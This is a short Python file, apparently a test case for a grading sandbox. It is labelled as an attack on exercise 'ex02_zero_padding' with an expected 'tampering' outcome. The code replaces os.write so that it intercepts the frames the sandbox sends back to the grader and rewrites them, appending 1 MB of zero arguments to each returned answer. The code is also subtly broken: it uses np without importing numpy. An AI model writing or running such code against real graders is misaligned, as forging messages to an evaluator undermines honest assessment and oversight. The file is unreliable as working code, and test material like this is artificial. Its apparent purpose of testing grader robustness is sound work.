# /// attack
# tries = "Puts 1 MB of arguments beside each answer, unasked, and the grader keeps all of them."
# exercise = "ex02_zero_padding"
# answers = "right"
# points = 0
# outcomes = ["tampering"]
# ///
import os

from grader.sandbox.inside.encoder import encode

_write = os.write
_BAGGAGE = encode((np.zeros(1 << 20, np.uint8),))


def _forge(descriptor, data):
    head = b"t\2\0\0\0" + encode("returned")
    if descriptor != 3 or not bytes(data[12:]).startswith(head):
        return _write(descriptor, data)
    body = b"t\3\0\0\0" + bytes(data[17:]) + _BAGGAGE
    frame = len(body).to_bytes(4, "little") + bytes(data[4:12]) + body
    while frame:
        frame = frame[_write(descriptor, frame) :]
    return len(data)


os.write = _forge
